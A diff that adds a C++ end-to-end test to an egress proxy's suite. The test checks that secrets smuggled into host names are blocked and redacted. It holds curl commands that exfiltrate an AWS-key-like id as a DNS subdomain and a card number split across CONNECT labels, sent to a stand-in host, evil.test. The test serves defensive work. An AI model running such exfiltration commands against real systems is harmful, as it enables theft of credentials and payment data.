@@ -244,6 +244,39 @@ TEST_F(EgressE2eTest, DeniedDomainIsRefusedWith403AndTheRule) {
   }
 }
 
+// Attack: exfiltrate through the DNS name in mode open (any name allowed): an AWS key id as a
+// subdomain of a plain-HTTP request and a card number split into the labels of a CONNECT
+// target. Both refused by DLP before the name is resolved; the audit rows keep neither.
+TEST_F(EgressE2eTest, SecretsInHostNamesAreRefusedBeforeResolutionInModeOpen) {
+  std::string env = Governed(json::object{{"mode", "open"}});
+  ASSERT_FALSE(env.empty());
+  HttpResult r = Sh(env,
+                    "curl -sS -D /tmp/h -o /dev/null -w '%{http_code}\n' "
+                    "http://akiaz7q4mxr2vn6lpt3k.evil.test/dns-exfil-marker; "
+                    "grep -i '^x-esb-blocked' /tmp/h; "
+                    "curl -sS -o /dev/null https://4539.7812.4605.3059.evil.test/tls-exfil-marker "
+                    "2>&1; echo rc=$?");
+  const std::string out = r.str("stdout");
+  EXPECT_EQ(out.rfind("403\n", 0), 0u) << out;
+  EXPECT_NE(out.find("X-Esb-Blocked: dlp:aws_access_key"), std::string::npos) << out;
+  EXPECT_NE(out.find("rc=56"), std::string::npos) << out;  // CONNECT answered 403
+  EXPECT_FALSE(UpstreamSaw("exfil-marker"));
+  std::vector<json::object> rows = Rows(env, [](const auto& rows) { return rows.size() >= 2; });
+  ASSERT_GE(rows.size(), 2u);
+  bool key = false, card = false;
+  for (const json::object& row : rows) {
+    std::string text = json::serialize(row);
+    for (char& c : text) c = static_cast<char>(tolower(static_cast<unsigned char>(c)));
+    EXPECT_EQ(text.find("akiaz7q4mxr2vn6lpt3k"), std::string::npos) << text;
+    EXPECT_EQ(text.find("4539.7812"), std::string::npos) << text;
+    EXPECT_EQ(Str(row, "decision"), "blocked") << text;
+    key |= Str(row, "host") == "[REDACTED:dlp:aws_access_key]";
+    card |= Str(row, "host") == "[REDACTED:dlp:credit_card]";
+  }
+  EXPECT_TRUE(key);
+  EXPECT_TRUE(card);
+}
+
 TEST_F(EgressE2eTest, IpLiteralIsRefused) {
   std::string env = Governed(Allow({"echo.test"}));
   ASSERT_FALSE(env.empty());
